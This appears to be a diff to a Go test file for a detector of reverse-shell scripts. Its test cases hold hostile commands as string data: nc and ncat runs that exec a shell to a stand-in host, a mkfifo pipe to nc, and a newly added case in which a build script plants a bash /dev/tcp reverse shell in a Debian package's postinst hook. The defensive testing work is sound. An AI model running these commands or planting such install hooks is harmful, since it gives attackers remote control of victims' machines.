@@ -52,6 +52,8 @@ func TestShellBehaviour(t *testing.T) {
 		{name: "ncat --exec abbreviated", path: "/usr/local/bin/s", text: "#!/bin/sh\nncat --exe /bin/bash 203.0.113.9 4444\n", want: []string{RuleNetExec}},
 		{name: "nc --e", path: "/usr/local/bin/s", text: "#!/bin/sh\nnc --e /bin/sh 203.0.113.9 4444\n", want: []string{RuleNetExec}},
 		{name: "ncat --sh abbreviated with a value", path: "/usr/local/bin/s", text: "#!/bin/sh\nncat --sh='bash -i' 203.0.113.9 4444\n", want: []string{RuleNetExec}},
+		{name: "package built with a shell in its postinst", path: "/opt/mkdeb.sh", text: "#!/bin/bash\nP=/tmp/pkg-$RANDOM\nmkdir -p $P/DEBIAN\ncat > $P/DEBIAN/postinst <<EOF\n#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &\nEOF\nchmod 755 $P/DEBIAN/postinst\ndpkg-deb --build $P /tmp/helper.deb\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
+		{name: "package built with a plain postinst", path: "/opt/mkdeb.sh", text: "#!/bin/bash\nP=/tmp/pkg\nmkdir -p $P/DEBIAN\nprintf '#!/bin/sh\\nldconfig\\n' > $P/DEBIAN/postinst\ndpkg-deb --build $P /tmp/helper.deb\n"},
 		{name: "ncat --s is no --sh-exec", path: "/usr/local/bin/s", text: "#!/bin/sh\nncat --s /bin/bash 203.0.113.9 4444\n"},
 		{name: "combined flags", path: "/opt/k.sh", text: "#!/bin/sh\nnc -nve /bin/bash 203.0.113.45 4444\n", want: []string{RuleNetExec}},
 		{name: "mkfifo one line", path: "/tmp/x.sh", text: "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n", want: []string{RuleFifo}},
